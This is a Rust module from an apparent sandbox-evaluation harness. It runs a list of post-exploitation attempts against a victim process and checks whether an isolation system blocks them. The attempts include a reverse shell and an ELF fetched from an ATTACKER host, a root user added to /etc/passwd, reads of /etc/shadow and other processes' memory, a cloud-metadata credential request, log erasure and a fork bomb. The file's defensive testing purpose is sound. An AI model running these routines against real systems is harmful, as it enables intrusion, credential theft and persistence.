//! The attempts: what an attacker does who can read, write and call in the victim.

use super::abis;
use super::cell::{Answer, KEY, Kind, LOG, NEIGHBOUR, Victim};
use super::code;
use super::docker;
use super::end::{Access, By, Cause};
use super::gate::{by_address, gate_calls, malformed_frames};
use super::lan::{ATTACKER, CREDENTIALS, DATABASE, METADATA, PROGRAM_PORT, SHELL_PORT};
use super::raw::{metadata_raw, raw_frames, scan_raw};

/// How an attempt ended.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum Outcome {
    /// The attacker has what they wanted.
    Succeeded(String),
    /// They have not.
    Failed(String),
    /// The kind has nothing of the sort.
    Absent(&'static str),
    /// The attempt was not made as it should be: says nothing about the kind, and fails the drill.
    Broken(String),
}

use Outcome::{Failed, Succeeded};

/// How much time there is.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Form {
    /// Every number of every list.
    Whole,
    /// Samples where trying all takes minutes.
    Short,
}

/// An attempt.
pub struct Attempt {
    pub name: &'static str,
    pub run: fn(&mut Victim<'_>, Form) -> Answer<Outcome>,
    /// Donjon does not claim to prevent it: it must succeed everywhere, or else the drill cannot tell.
    pub conceded: bool,
    /// It must succeed in the ordinary container, which shows that it is an exploit.
    pub works: bool,
    /// It is about frames: made again with the filter off, where it must succeed in an image, too.
    pub frames: bool,
}

/// One that works in the ordinary container.
const fn works(name: &'static str, run: fn(&mut Victim<'_>, Form) -> Answer<Outcome>) -> Attempt {
    Attempt { name, run, conceded: false, works: true, frames: false }
}

/// One that works in the ordinary container, and in an image without the filter.
const fn filtered(name: &'static str, run: fn(&mut Victim<'_>, Form) -> Answer<Outcome>) -> Attempt {
    Attempt { name, run, conceded: false, works: true, frames: true }
}

/// One that fails everywhere, or is for images only.
const fn fails(name: &'static str, run: fn(&mut Victim<'_>, Form) -> Answer<Outcome>) -> Attempt {
    Attempt { name, run, conceded: false, works: false, frames: false }
}

/// One that works everywhere.
const fn conceded(name: &'static str, run: fn(&mut Victim<'_>, Form) -> Answer<Outcome>) -> Attempt {
    Attempt { name, run, conceded: true, works: true, frames: false }
}

/// All attempts, in the order in which they are made.
pub const ATTEMPTS: &[Attempt] = &[
    fails("shellcode in the heap", |v, _| run_at(v, "/run-heap")),
    fails("shellcode on the stack", |v, _| run_at(v, "/run-stack")),
    works("make memory executable (mprotect), run it", make_executable),
    works("patch own text", patch_text),
    fails("page tables, CR0.WP, MSRs", privileged),
    fails("absent devices and I/O ports", ports),
    works("run a shell", shell),
    works("reverse shell", reverse_shell),
    works("fetch and run an ELF program", fetch),
    works("write and execute a file", write_and_execute),
    works("persist over a restart", persist),
    works("add a user", add_user),
    works("read /etc/shadow", |v, _| read_file(v, "/etc/shadow", "root:")),
    works("read another process's memory", other_memory),
    works("list processes and files", list),
    works("another process's environment", other_environment),
    conceded("TLS key from memory", key),
    works("scan the subnet", scan),
    works("cloud metadata address", metadata),
    filtered("raw frames, ARP and IP spoofing", raw_frames),
    filtered("scan the subnet by raw frames", scan_raw),
    filtered("cloud metadata address by raw frames", metadata_raw),
    works("erase logs", erase_logs),
    fails("load a kernel module", load_module),
    fails("device nodes, the machine's memory", device_nodes),
    works("host kernel calls that are reachable", count_calls),
    works("host kernel calls by its other doors (int 0x80, x32, vsyscall)", abis::others),
    fails("malformed gate calls", gate_calls),
    fails("malformed frames and offload headers", malformed_frames),
    fails("the machine's and the devices' memory by address", by_address),
    works("fork bomb", fork_bomb),
    works("use up memory (256 MiB)", use_memory),
    fails("replay the exploit's addresses on a second instance", replay),
    conceded("exfiltrate through the served port", exfiltrate),
];

fn run_at(v: &mut Victim<'_>, path: &str) -> Answer<Outcome> {
    let answer = v.request(path, code::FORTY_TWO);
    Ok(match v.or_ended(answer, Cause::Execution)?.map(|text| String::from_utf8_lossy(&text).into_owned()) {
        Some(text) if text.starts_with("42 ") => Succeeded("it ran".into()),
        Some(text) => Failed(text),
        None => Failed("it ends".into()),
    })
}

/// What the doors of an image answer: the C library's function, then the system call itself, by an instruction that is there.
fn doors(v: &mut Victim<'_>, calls: &[(&str, u64, &[u64])]) -> Answer<Outcome> {
    let mut said = Vec::new();
    for (name, _, args) in calls.iter().filter(|c| !c.0.is_empty()) {
        let result = v.libc(name, args)?;
        if result >= 0 {
            return Ok(Succeeded(format!("{name} returned {result}")));
        }
        said.push(format!("{name}: {}", errno(-result)));
    }
    for (name, number, args) in calls {
        let answer = v.syscall(*number, args);
        match v.or_ended(answer, Cause::Call)? {
            Some(result) if result >= 0 => return Ok(Succeeded(format!("system call {number} returned {result}"))),
            Some(result) => said.push(format!("system call {number}: {}", errno(-result))),
            None => said.push(format!("system call {number} ({}) ends it", if name.is_empty() { "raw" } else { name })),
        }
    }
    Ok(Failed(said.join("; ")))
}

pub fn errno(number: i64) -> String {
    let names = [
        (docker::REFUSED.into(), "EPERM of the filter"),
        (1, "EPERM"),
        (2, "ENOENT"),
        (3, "ESRCH"),
        (9, "EBADF"),
        (12, "ENOMEM"),
        (13, "EACCES"),
        (14, "EFAULT"),
        (17, "EEXIST"),
        (20, "ENOTDIR"),
        (22, "EINVAL"),
        (30, "EROFS"),
        (38, "ENOSYS"),
        (97, "EAFNOSUPPORT"),
        (101, "ENETUNREACH"),
        (111, "ECONNREFUSED"),
        (113, "EHOSTUNREACH"),
    ];
    names.iter().find(|n| n.0 == number).map_or_else(|| format!("errno {number}"), |n| n.1.to_owned())
}

fn make_executable(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    match v.inject(code::FORTY_TWO)? {
        Ok(at) => Ok(if v.call(at, &[])? == 42 { Succeeded("it ran".into()) } else { Failed("it did not run".into()) }),
        Err(e) => {
            // Written first, executable then; and both at once.
            let page = v.alloc(0x2000)?.next_multiple_of(0x1000);
            let then = v.libc("mprotect", &[page, 0x1000, 5])?;
            if then == 0 {
                return Ok(Succeeded("mprotect to r-x".into()));
            }
            let refused = format!("mprotect: {} (rwx), {} (r-x)", errno(e), errno(-then));
            // The same by `mmap`, then whatever the answer: the call.
            let at = v.libc("mmap", &[0, 0x1000, 7, 0x22, u64::MAX, 0])?;
            if at > 0 {
                v.poke(at as u64, code::FORTY_TWO)?;
                return Ok(if v.call(at as u64, &[])? == 42 { Succeeded("by mmap".into()) } else { Failed(refused) });
            }
            Ok(Failed(format!("{refused}; mmap: {}", errno(-at))))
        }
    }
}

fn patch_text(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let at = v.sym("gadget_syscall")?;
    let page = at & !0xfff;
    let result = v.libc("mprotect", &[page, 0x2000, 7])?;
    let said = if result == 0 { String::new() } else { format!("mprotect: {}; ", errno(-result)) };
    let answer = v.poke(at, code::FORTY_TWO);
    match v.or_ended(answer, Cause::Access(Access::Write, at))? {
        Some(()) if v.call(at, &[])? == 42 => {
            v.restart();
            Ok(Succeeded("the patched function ran".into()))
        }
        Some(()) => Ok(Failed(format!("{said}it did not change"))),
        None => Ok(Failed(format!("{said}the write ends it"))),
    }
}

/// Runs pieces of code of which each should be the end: injected where that works, else those that the program contains.
fn each_ends(v: &mut Victim<'_>, pieces: &[(&str, &'static [u8], &str, &[u64])]) -> Answer<Outcome> {
    let mut survived = Vec::new();
    for (what, injected, gadget, args) in pieces {
        let result = if v.kind.is_donjon() {
            v.libc(gadget, args)
        } else {
            match v.inject(injected)? {
                Ok(at) => v.call(at, &[]),
                Err(e) => return Ok(Failed(format!("no injection: {}", errno(e)))),
            }
        };
        if let Some(value) = v.or_ended(result, Cause::Privileged)? {
            survived.push(format!("{what} gave {value:#x}"));
        }
    }
    Ok(if survived.is_empty() { Failed("each instruction ends it".into()) } else { Succeeded(survived.join(", ")) })
}

fn privileged(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    each_ends(
        v,
        &[
            ("reading CR3", code::READ_CR3, "gadget_read_cr3", &[]),
            ("writing CR3", code::WRITE_CR3, "gadget_write_cr3", &[0x1000]),
            ("clearing CR0.WP", code::CLEAR_WP, "gadget_cr0", &[]),
            ("writing LSTAR", code::WRMSR, "gadget_wrmsr", &[]),
        ],
    )
}

fn ports(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    each_ends(
        v,
        &[
            ("in 0xcf8", code::IN, "gadget_in", &[0xcf8]),
            ("out 0x64", code::OUT, "gadget_out", &[0x64, 0xfe]),
            ("out 0xf4", code::OUT_EXIT, "gadget_out", &[0xf4, 0]),
            ("in 0x3f8", code::IN_SERIAL, "gadget_in", &[0x3f8]),
        ],
    )
}

fn pipe(v: &mut Victim<'_>) -> Answer<(i64, i64)> {
    let at = v.alloc(0x1000)?;
    v.syscall(293, &[at, 0])?;
    let fds = v.peek(at, 8)?;
    let fd = |i: usize| i64::from(u32::from_le_bytes(fds[i..i + 4].try_into().unwrap_or_default()));
    Ok((fd(0), fd(4)))
}

fn shell(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    if v.kind.is_donjon() {
        let (program, zero) = (v.text("/bin/sh")?, v.alloc(0x1000)?);
        return doors(
            v,
            &[("system", 59, &[program, zero, zero]), ("fork", 57, &[]), ("execve", 59, &[program, zero, zero])],
        );
    }
    let (from, to) = pipe(v)?;
    let status = v.spawn("/bin/sh", &["-c", "id; ls /"], to as u64)?;
    v.syscall(3, &[to as u64])?;
    let said = String::from_utf8_lossy(&v.read(from, 4096)?).into_owned();
    Ok(if said.contains("uid=") {
        Succeeded(said.lines().next().unwrap_or_default().to_owned())
    } else {
        Failed(format!("there is no shell (status {})", status >> 8))
    })
}

fn reverse_shell(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let fd = v.connect(ATTACKER, SHELL_PORT)?;
    if v.kind.is_donjon() {
        if fd >= 0 {
            return Ok(Succeeded("it has connected".into()));
        }
        let said = format!("connect: {}; ", errno(-fd));
        return Ok(match doors(v, &[("", 41, &[2, 1, 0])])? {
            Failed(more) => Failed(said + &more),
            other => other,
        });
    }
    if fd < 0 {
        return Ok(Failed(format!("connect: {}", errno(-fd))));
    }
    v.spawn("/bin/sh", &[], fd as u64)?;
    v.syscall(3, &[fd as u64])?;
    let heard = v.lan.take_shell();
    Ok(if heard.contains("uid=") {
        Succeeded("the attacker has a shell".into())
    } else {
        Failed("there is no shell".into())
    })
}

fn fetch(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let fd = v.connect(ATTACKER, PROGRAM_PORT)?;
    if fd < 0 {
        let said = format!("connect: {}", errno(-fd));
        if !v.kind.is_donjon() {
            return Ok(Failed(said));
        }
        let (name, zero) = (v.text("x")?, v.alloc(0x1000)?);
        return Ok(match doors(v, &[("", 319, &[name, 0]), ("", 322, &[u64::MAX, name, zero, zero, 0x1000])])? {
            Failed(more) => Failed(format!("{said}; {more}")),
            other => other,
        });
    }
    let program = v.read(fd, 4096)?;
    let name = v.text("x")?;
    let file = v.syscall(319, &[name, 0])?;
    v.write(file, &program)?;
    let status = v.spawn(&format!("/proc/self/fd/{file}"), &[], 2)?;
    Ok(if status == 42 << 8 {
        Succeeded("from memory, without a file".into())
    } else {
        Failed(format!("status {}", status >> 8))
    })
}

const CREATE: u64 = 0o1101;
const APPEND: u64 = 0o2001;

fn write_and_execute(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let fd = v.open("/tmp/x", CREATE, 0o755)?;
    let wrote = if fd < 0 { errno(-fd) } else { "written".to_owned() };
    if fd >= 0 {
        v.write(fd, &code::elf())?;
    }
    if v.kind.is_donjon() {
        let (path, zero) = (v.text("/tmp/x")?, v.alloc(0x1000)?);
        return Ok(match doors(v, &[("execve", 59, &[path, zero, zero])])? {
            Failed(more) => Failed(format!("/tmp/x: {wrote}; {more}")),
            other => other,
        });
    }
    if fd < 0 {
        return Ok(Failed(format!("/tmp/x: {wrote}")));
    }
    v.syscall(3, &[fd as u64])?;
    let status = v.spawn("/tmp/x", &[], 2)?;
    Ok(if status == 42 << 8 { Succeeded("it ran".into()) } else { Failed(format!("status {}", status >> 8)) })
}

fn persist(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let mut said = Vec::new();
    for path in ["/usr/local/bin/backdoor", "/etc/backdoor", "/tmp/backdoor", "/var/log/backdoor"] {
        let fd = v.open(path, CREATE, 0o755)?;
        if fd < 0 {
            said.push(format!("{path}: {}", errno(-fd)));
            continue;
        }
        v.write(fd, b"backdoor")?;
        v.restart();
        let fd = v.open(path, 0, 0)?;
        if fd >= 0 {
            return Ok(Succeeded(format!("{path} is still there")));
        }
        said.push(format!("{path}: gone after the restart"));
    }
    Ok(Failed(said.join("; ")))
}

fn add_user(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let fd = v.open("/etc/passwd", APPEND, 0)?;
    if fd < 0 {
        return Ok(Failed(format!("/etc/passwd: {}", errno(-fd))));
    }
    v.write(fd, b"eve:x:0:0::/:/bin/sh\n")?;
    read_file(v, "/etc/passwd", "eve:x:0:0")
}

fn read_file(v: &mut Victim<'_>, path: &str, wanted: &str) -> Answer<Outcome> {
    let fd = v.open(path, 0, 0)?;
    if fd < 0 {
        return Ok(Failed(format!("{path}: {}", errno(-fd))));
    }
    let text = v.read(fd, 4096)?;
    let found = String::from_utf8_lossy(&text).contains(wanted);
    Ok(if found {
        Succeeded(format!("{} bytes of {path}", text.len()))
    } else {
        Failed(format!("{path} does not have it"))
    })
}

/// Ids of the other processes that are to be seen.
fn others(v: &mut Victim<'_>) -> Answer<Vec<u64>> {
    let own = v.syscall(39, &[])?;
    let mut found = Vec::new();
    for pid in (1..24).filter(|p| i64::from(*p) != own) {
        let fd = v.open(&format!("/proc/{pid}/stat"), 0, 0)?;
        if fd >= 0 {
            v.syscall(3, &[fd as u64])?;
            found.push(u64::from(pid as u32));
        }
    }
    Ok(found)
}

fn other_memory(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    if v.kind.is_donjon() {
        let fd = v.open("/proc/1/mem", 0, 0)?;
        if fd >= 0 {
            return Ok(Succeeded("/proc/1/mem is open".into()));
        }
        let at = v.alloc(0x1000)?;
        return doors(v, &[("process_vm_readv", 310, &[1, at, 1, at, 1, 0]), ("ptrace", 101, &[16, 1, 0, 0])]);
    }
    let mut seen = 0;
    for pid in others(v)? {
        seen += 1;
        let fd = v.open(&format!("/proc/{pid}/maps"), 0, 0)?;
        if fd < 0 {
            continue;
        }
        let mut maps = String::new();
        loop {
            let part = v.read(fd, 4096)?;
            if part.is_empty() {
                break;
            }
            maps.push_str(&String::from_utf8_lossy(&part));
        }
        let Some(stack) = maps.lines().find(|l| l.contains("[stack]")) else { continue };
        let end = stack.split(['-', ' ']).nth(1).and_then(|e| u64::from_str_radix(e, 16).ok()).unwrap_or(0x1000);
        // The environment is at the stack's end.
        let (room, list) = (v.alloc(0x1000)?, v.alloc(0x1000)?);
        let words = [room, 0x1000, end - 0x1000, 0x1000];
        v.poke(list, &words.iter().flat_map(|w| w.to_le_bytes()).collect::<Vec<u8>>())?;
        let n = v.syscall(310, &[pid, list, 1, list + 16, 1, 0])?;
        if n > 0 && String::from_utf8_lossy(&v.peek(room, n as u64)?).contains(NEIGHBOUR) {
            return Ok(Succeeded(format!("the secret of process {pid}, by process_vm_readv")));
        }
    }
    Ok(Failed(format!("{seen} other processes, none of them readable")))
}

fn list(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    // O_DIRECTORY
    let fd = v.open("/", 0o200_000, 0)?;
    if v.kind.is_donjon() {
        let proc = v.open("/proc", 0o200_000, 0)?;
        if proc >= 0 {
            return Ok(Succeeded("/proc is there".into()));
        }
        let said = format!("/proc: {}; / is the image's own, read-only; ", errno(-proc));
        let at = v.alloc(0x1000)?;
        return Ok(match doors(v, &[("", 217, &[fd.max(0) as u64, at, 0x1000])])? {
            Failed(more) => Failed(said + &more),
            other => other,
        });
    }
    let at = v.alloc(0x1000)?;
    let n = v.syscall(217, &[fd as u64, at, 0x1000])?;
    let processes = others(v)?.len();
    Ok(if n > 0 {
        Succeeded(format!("/ ({n} bytes of names), {processes} other processes"))
    } else {
        Failed(errno(-n))
    })
}

fn other_environment(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    if v.kind.is_donjon() {
        return read_file(v, "/proc/1/environ", NEIGHBOUR);
    }
    for pid in others(v)? {
        if let Succeeded(_) = read_file(v, &format!("/proc/{pid}/environ"), NEIGHBOUR)? {
            return Ok(Succeeded(format!("of process {pid}")));
        }
    }
    Ok(Failed("there is no other process's to be seen".into()))
}

fn key(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let at = v.sym("key")?;
    let found = v.peek(at, KEY.len() as u64)? == KEY.as_bytes();
    Ok(if found { Succeeded("it is in the program's memory".into()) } else { Failed("not where it should be".into()) })
}

fn scan(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let mut told = Vec::new();
    for (ip, port) in [(DATABASE, 22), (DATABASE, 5432), (ATTACKER, 22), ([10, 66, 0, 1], 80)] {
        let result = v.connect(ip, port)?;
        if result >= 0 || (result == -111 && !v.kind.is_donjon()) {
            let state = if result >= 0 { "open" } else { "closed" };
            told.push(format!("{}:{port} {state}", std::net::Ipv4Addr::from(ip)));
        }
    }
    Ok(if told.is_empty() { Failed("every connection is refused alike".into()) } else { Succeeded(told.join(", ")) })
}

fn metadata(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let fd = v.connect(METADATA, 80)?;
    if fd < 0 {
        return Ok(Failed(format!("connect: {}", errno(-fd))));
    }
    v.write(fd, b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")?;
    let text = v.read(fd, 4096)?;
    let got = String::from_utf8_lossy(&text).contains(CREDENTIALS);
    Ok(if got {
        Succeeded("the machine's credentials".into())
    } else {
        Failed(format!("connected, {} bytes came", text.len()))
    })
}

fn erase_logs(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let mark = "/mark-of-the-attacker";
    v.request(mark, b"")?;
    if v.kind == Kind::Docker {
        let fd = v.open(LOG, 0o1001, 0)?;
        let path = v.made.root.join(LOG.trim_start_matches('/'));
        let gone = !std::fs::read_to_string(path).unwrap_or_default().contains(mark);
        return Ok(if fd >= 0 && gone { Succeeded(format!("{LOG} is empty")) } else { Failed(errno(-fd)) });
    }
    // What went to standard output is the host's. Only more can be written.
    let log = v.open(LOG, 0o1001, 0)?;
    v.write(1, b"\x1b[2J\x1b[H\n")?;
    let kept = v.console_has(mark);
    Ok(if kept {
        Failed(format!("no log file ({}), the console is the host's", errno(-log)))
    } else {
        Succeeded("gone".into())
    })
}

fn load_module(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let at = v.text("module")?;
    let (from_memory, from_file) = ([at, 6, at], [0, at, 0]);
    if v.kind.is_donjon() {
        return doors(v, &[("", 175, &from_memory), ("", 313, &from_file)]);
    }
    let mut said = Vec::new();
    for (name, number, args) in [("init_module", 175, from_memory), ("finit_module", 313, from_file)] {
        let result = v.syscall(number, &args)?;
        if result >= 0 {
            return Ok(Succeeded(format!("loaded by {name}")));
        }
        said.push(format!("{name}: {}", errno(-result)));
    }
    Ok(Failed(said.join("; ")))
}

/// Opens what gives the machine's memory and ports where it is there, then makes the node for it.
fn device_nodes(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let mut said = Vec::new();
    for path in ["/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/kvm"] {
        let fd = v.open(path, 0, 0)?;
        if fd >= 0 {
            return Ok(Succeeded(format!("{path} is open")));
        }
        said.push(format!("{path}: {}", errno(-fd)));
    }
    // S_IFCHR and rw for the owner; 1:1 is /dev/mem.
    let (node, mode, device) = ("/tmp/node", 0o020_600, 0x101);
    let args = [v.text(node)?, mode, device];
    if v.kind.is_donjon() {
        return Ok(match doors(v, &[("mknod", 133, &args)])? {
            Failed(more) => Failed(format!("{}; {more}", said.join("; "))),
            other => other,
        });
    }
    let made = v.syscall(133, &args)?;
    let fd = v.open(node, 0, 0)?;
    if fd >= 0 {
        return Ok(Succeeded(format!("{node}, which it made, is open")));
    }
    let made = if made < 0 { errno(-made) } else { "made".into() };
    Ok(Failed(format!("{}; mknod: {made}, open: {}", said.join("; "), errno(-fd))))
}

/// Numbers of system calls; Linux 6.18 ends at 469.
const NUMBERS: u64 = 470;

/// Those of them that may reach the host's kernel from an image with all arguments -1: of the process engine's gate `rt_sigreturn`, `readv`, `writev`, `exit_group` and `ppoll`;
/// and `uretprobe` and `uprobe`, which no seccomp filter sees (since Linux 6.14 and 6.18).
fn reachable(kind: Kind) -> Option<&'static [u64]> {
    match kind {
        Kind::Process | Kind::Tap => Some(&[15, 19, 20, 231, 271, 335, 336]),
        Kind::Qemu | Kind::QemuTap => Some(&[]),
        Kind::Docker | Kind::Hardened => None,
    }
}

/// Whether a call has reached the kernel although it has ended the instance: that ending is what the call does with these arguments. `exit_group` gives a status,
/// `rt_sigreturn` takes what is on the stack for registers, and `uretprobe` raises SIGILL where there is no probe.
fn ended_by_itself(number: u64, by: By) -> bool {
    match number {
        231 => by == By::Exit(255),
        15 | 335 => by.fits(Cause::Astray, Kind::Process),
        _ => false,
    }
}

fn count_calls(v: &mut Victim<'_>, form: Form) -> Answer<Outcome> {
    let bad = [u64::MAX; 6];
    let mut carried_out = Vec::new();
    let mut tried = 0;
    let step = match (v.kind, form) {
        (_, Form::Whole) => 1,
        (kind, Form::Short) => {
            if kind.is_donjon() {
                31
            } else {
                7
            }
        }
    };
    let known = reachable(v.kind).unwrap_or_default();
    for number in (0..NUMBERS).filter(|n| n % step == 0 || known.contains(n)) {
        tried += 1;
        if v.kind.is_donjon() {
            let answer = v.syscall(number, &bad);
            let carried = match v.or_ended(answer, Cause::Call) {
                Ok(result) => result.is_some_and(|r| r != -38),
                Err(ended) if !v.kind.is_qemu() && ended_by_itself(number, ended.by) => true,
                Err(ended) => return Err(ended),
            };
            if carried {
                carried_out.push(number);
            }
            continue;
        }
        let mut words = [u64::MAX; 7];
        words[0] = number;
        let pid = v.run(code::TRY, &words)?;
        let status = v.alloc(16)?;
        // WNOHANG; what does not come back within some looks waits in the kernel.
        let mut ended = 0;
        for _ in 0..20 {
            ended = v.syscall(61, &[pid as u64, status, 1, 0])?;
            if ended != 0 {
                break;
            }
        }
        if ended == 0 {
            v.syscall(62, &[pid as u64, 9])?;
            v.syscall(61, &[pid as u64, status, 0, 0])?;
            carried_out.push(number);
            continue;
        }
        let code = v.peek(status, 4)?;
        // Ended by a signal, or with an errno that is not the filter's.
        if code[0] & 0x7f != 0 || !docker::is_refusal(number, code[1].into()) {
            carried_out.push(number);
        }
    }
    if !v.kind.is_donjon() {
        // The cell's filter is the one that it should be. The two are nobody's to refuse, on the kernels that have them.
        let capabilities = v.kind.capabilities();
        let expected = |n: &u64| docker::passes(*n, capabilities);
        let wrong: Vec<u64> = (0..NUMBERS)
            .filter(|n| n % step == 0 && ![335, 336].contains(n) && expected(n) != carried_out.contains(n))
            .collect();
        if !wrong.is_empty() {
            return Ok(Outcome::Broken(format!("the cell's filter is not the profile's for {wrong:?}")));
        }
    }
    let count = carried_out.len();
    let which = if count <= 12 { format!(": {carried_out:?}") } else { String::new() };
    let said = format!("{count} of {tried} numbers tried{which}");
    let stopped = match reachable(v.kind) {
        Some(known) => carried_out.iter().all(|n| known.contains(n)),
        None => count <= 16,
    };
    Ok(if stopped { Failed(said) } else { Succeeded(said) })
}

fn fork_bomb(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    const MANY: u64 = 150;
    if v.kind.is_donjon() {
        return doors(v, &[("fork", 57, &[]), ("", 56, &[17, 0, 0, 0, 0])]);
    }
    let mut children = 0;
    // Each waits for ever (pause).
    while children < MANY && v.run(code::TRY, &[34, 0, 0, 0, 0, 0, 0])? > 0 {
        children += 1;
    }
    // All but the caller and the first process.
    v.syscall(62, &[u64::MAX, 9])?;
    v.restart();
    Ok(if children == MANY {
        Succeeded(format!("{MANY} processes, and no limit met"))
    } else {
        Failed(format!("{children} processes"))
    })
}

fn use_memory(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    const PIECE: u64 = 16 << 20;
    for piece in 0..16u64 {
        // MAP_PRIVATE, MAP_ANONYMOUS, MAP_POPULATE
        let args = [0, PIECE, 3, 0x8022, u64::MAX, 0];
        let at = if v.kind.is_donjon() { v.libc("mmap", &args)? } else { v.syscall(9, &args)? };
        if at <= 0 && at > -4096 {
            return Ok(Failed(format!("after {} MiB: {}", piece * 16, errno(-at))));
        }
        // Touched, whatever populating means here.
        for page in (0..PIECE).step_by(1 << 20) {
            let answer = v.poke(at as u64 + page, &[1; 4096]);
            if v.or_ended(answer, Cause::Memory)?.is_none() {
                return Ok(Failed(format!("ended after {} MiB (at {at:#x})", piece * 16)));
            }
        }
    }
    v.restart();
    Ok(Succeeded("256 MiB".into()))
}

fn replay(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let names = ["text", "stack", "key", "mprotect"];
    let mut first = Vec::new();
    for name in names {
        first.push(v.sym(name)?);
    }
    v.restart();
    let mut same = Vec::new();
    for (name, old) in names.iter().zip(&first) {
        if v.sym(name)? == *old {
            same.push(*name);
        }
    }
    if !same.is_empty() {
        return Ok(Succeeded(format!("the same addresses: {}", same.join(", "))));
    }
    // And with the old address, as the exploit has it.
    let old = first[3];
    let answer = v.call(old, &[0, 0, 0]);
    Ok(match v.or_ended(answer, Cause::Astray)? {
        Some(_) => Failed("all addresses differ; the old one happens to be something".into()),
        None => Failed("all addresses differ; using an old one ends it".into()),
    })
}

fn exfiltrate(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
    let at = v.sym("text")?;
    let bytes = v.peek(at & !0xfff, 0x4000)?;
    Ok(if bytes.len() == 0x4000 {
        Succeeded("16 KiB of its memory, as an answer".into())
    } else {
        Failed("nothing came".into())
    })
}
